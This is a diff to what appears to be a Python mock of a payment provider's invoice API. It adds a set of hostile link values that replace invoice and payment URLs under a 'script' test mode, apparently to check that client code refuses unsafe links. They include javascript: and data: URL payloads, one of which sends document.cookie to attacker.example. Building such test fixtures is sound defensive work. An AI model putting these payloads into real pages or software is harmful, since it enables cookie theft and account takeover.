@@ -19,6 +19,12 @@ DOCUMENT_BASE = "https://documents.qvickly-sandbox.example"
 SHOP_BASE = "https://shop.qvickly-sandbox.example"
 NEVER = "0000-00-00 00:00:00"
 CARD_METHODS = ("8", "24", "266")  # Methods.md: card, card/bank, card (seamless)
+# What the "script" reading sends in place of every link: nothing a browser should follow.
+HOSTILE_LINKS = (
+    "javascript:alert(document.cookie)",
+    " JavaScript:fetch('https://attacker.example/?'+document.cookie)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+",
+)
 
 
 def single_object(invoice, logid: int) -> dict:
@@ -126,7 +132,7 @@ def summary_row(invoice, customer) -> dict:
         "duedate": invoice.due_date.isoformat(),
         "topay": _kronor_text(topay),
         "invoiceid_real": ident(invoice.number),
-        "fileurl": f"{DOCUMENT_BASE}/mexc/customerinvoices/{invoice.hash}.pdf",
+        "fileurl": _link(f"{DOCUMENT_BASE}/mexc/customerinvoices/{invoice.hash}.pdf", invoice),
         "balancedue": _kronor_text(invoice.balance_ore) if as_text else _kronor_number(invoice.balance_ore),
         "invoicetype": invoice.invoice_type,
         "distributor_status": invoice.distributor_status,
@@ -139,6 +145,12 @@ def summary_row(invoice, customer) -> dict:
     if number % 3 == 0:
         del row["fileurl"]  # "The fileurl is not always present."
     return row
+
+
+def _link(url, invoice):
+    if readings.current("qvickly_links") == "script":
+        return HOSTILE_LINKS[int(invoice.number) % len(HOSTILE_LINKS)]
+    return url
 
 
 def _row_status(invoice):
@@ -193,7 +205,7 @@ def _payment_data(invoice, customer):
         "returnmethod": "",
         "callbackurl": f"{SHOP_BASE}/callback",
         "alladdresses": _all_addresses(customer) or "",
-        "url": f"{DOCUMENT_BASE}/invoice/{next(iter(QVICKLY_MERCHANTS))}/{invoice.hash}",
+        "url": _link(f"{DOCUMENT_BASE}/invoice/{next(iter(QVICKLY_MERCHANTS))}/{invoice.hash}", invoice),
         "mexcCustomerinvoicesid": str(_internal_id(invoice)),
         "number": invoice.number,
         "duedate": invoice.due_date.isoformat(),
